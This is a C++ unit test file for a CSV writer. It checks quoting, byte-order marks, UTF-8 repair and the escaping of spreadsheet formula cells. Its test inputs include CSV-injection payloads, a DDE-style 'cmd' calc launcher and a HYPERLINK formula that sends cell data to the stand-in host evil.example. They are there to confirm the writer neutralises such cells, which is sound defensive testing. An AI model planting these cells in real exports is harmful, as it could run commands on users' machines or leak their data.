// Tests for the CSV writer: RFC 4180 structure, the formula rule for spreadsheets, the byte-order mark.
#include "common/csv_writer.h"

#include <gtest/gtest.h>

#include <string>

namespace vigil {
namespace {

TEST(IsFormulaLike, OwaspPrefixesAlsoAfterLeadingWhitespace) {
  for (const char* cell : {"=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t1", "\r1", "  =1+1", "\n=1+1", " \t@x",
                           "=HYPERLINK(\"http://evil.example\")", "-", "+", "--1", "-1-1"}) {
    EXPECT_TRUE(IsFormulaLike(cell)) << cell;
  }
  for (const char* cell : {"", "plain", "gh_youliyoumian", "有理儿有面", "a=b", "-12", "+3.5", "-1e3", " -7", "-.5", "100000+",
                           "2025-03-10T08:30:00Z", "   "}) {
    EXPECT_FALSE(IsFormulaLike(cell)) << cell;
  }
}

TEST(CsvWriter, ToolsGetEveryValueAsItIs) {
  CsvWriter w({CsvAudience::kTools, true});  // no byte-order mark for tools, even when asked
  w.Row({"id", "name"});
  w.Row({"-1001234567890", "=1+1"});
  w.Row({"a,b", "say \"hi\"\nbye"});
  EXPECT_EQ(w.Take(), "id,name\n-1001234567890,=1+1\n\"a,b\",\"say \"\"hi\"\"\nbye\"\n");
  EXPECT_EQ(w.Take(), "");
}

TEST(CsvWriter, SpreadsheetCellsThatWouldRunAreShownAsText) {
  CsvWriter w({CsvAudience::kSpreadsheet, false});
  w.Row({"=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "-2+3", "@SUM(1)", "\t=1", "  =1+1", "-12", "gh_amp01"});
  EXPECT_EQ(w.Take(), "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\",'-2+3,'@SUM(1),'\t=1,'  =1+1,-12,gh_amp01\n");
}

TEST(CsvWriter, ByteOrderMarkForSpreadsheetsAndUtf8Repaired) {
  CsvWriter w({CsvAudience::kSpreadsheet, true});
  w.Row(std::vector<std::string>{"账号", "bad \xC3\x28,x"});
  EXPECT_EQ(w.Take(), "\xEF\xBB\xBF账号,\"bad \uFFFD(,x\"\n");
}

}  // namespace
}  // namespace vigil
